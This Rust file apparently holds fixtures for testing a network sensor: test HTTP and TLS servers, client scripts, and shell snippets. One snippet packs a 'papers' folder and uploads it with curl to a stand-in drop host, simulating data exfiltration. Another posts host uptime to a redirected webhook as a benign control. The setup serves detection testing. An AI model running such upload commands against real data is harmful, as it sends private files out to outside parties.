//! What runs on the host and at the other end.

/// Answers after as many milliseconds as the path says.
pub const SERVER: &str = "
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
class Slow(BaseHTTPRequestHandler):
    def do_GET(self):
        time.sleep(int(self.path[1:]) / 1000)
        self.send_response(200)
        self.send_header('Content-Length', '2')
        self.end_headers()
        self.wfile.write(b'ok')
    def log_message(self, *_):
        pass
class Server(ThreadingHTTPServer):
    request_queue_size = 256
Server(('10.98.0.2', 8080), Slow).serve_forever()
";

/// Says the local port of each of its flows.
pub const PYTHON: &str = "
import http.client, sys
for _ in range(int(sys.argv[2])):
    c = http.client.HTTPConnection('10.98.0.2', 8080)
    c.connect()
    print(c.sock.getsockname()[1], flush=True)
    c.request('GET', '/' + sys.argv[1])
    c.getresponse().read()
    c.close()
";

/// The same.
pub const NODE: &str = "
const http = require('http');
const [delay, count] = process.argv.slice(1).map(Number);
const call = left => left > 0 && http
  .get({host: '10.98.0.2', port: 8080, path: '/' + delay, agent: false}, answer => {
    answer.resume();
    answer.on('end', () => call(left - 1));
  })
  .on('socket', socket => socket.on('connect', () => console.log(socket.localPort)));
call(count);
";

/// Takes what is uploaded, and what is posted after the time that a server far away takes.
pub const TAKER: &str = "
import ssl, sys, time
from http.server import BaseHTTPRequestHandler, HTTPServer
class Taker(BaseHTTPRequestHandler):
    def do_POST(self):
        time.sleep(0.3)
        self.do_PUT()
    def do_PUT(self):
        left = int(self.headers['Content-Length'])
        while left > 0:
            left -= len(self.rfile.read(min(left, 65536)))
        self.send_response(200)
        self.send_header('Content-Length', '0')
        self.end_headers()
    def log_message(self, *_):
        pass
server = HTTPServer(('198.51.100.2', 443), Taker)
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(sys.argv[1])
server.socket = context.wrap_socket(server.socket, server_side=True)
server.serve_forever()
";

/// Packs what is in a folder and uploads it, with a certificate that the sensor can see.
pub const SCRIPT: &str = "
tar -cf \"$1/out.tar\" -C \"$1\" papers
curl -sk --tls-max 1.2 --limit-rate 20M --expect100-timeout 0.1 --resolve drop.example.net:443:198.51.100.2 \\
  -T \"$1/out.tar\" https://drop.example.net/
true
";
/// What is packed.
pub const PAPERS_BYTES: usize = 60 << 20;

/// How often the host's state is posted: one post alone raises nothing.
pub const POSTS: usize = 3;
/// Posts the host's state to a chat's webhook, as a job of cron does.
pub const REPORT: &str = "
for n in $(seq $1); do
  curl -sk --resolve discord.com:443:198.51.100.2 --data-binary \"$(uptime -p)\" \\
    https://discord.com/api/webhooks/1100/tapir
  sleep 1
done
";
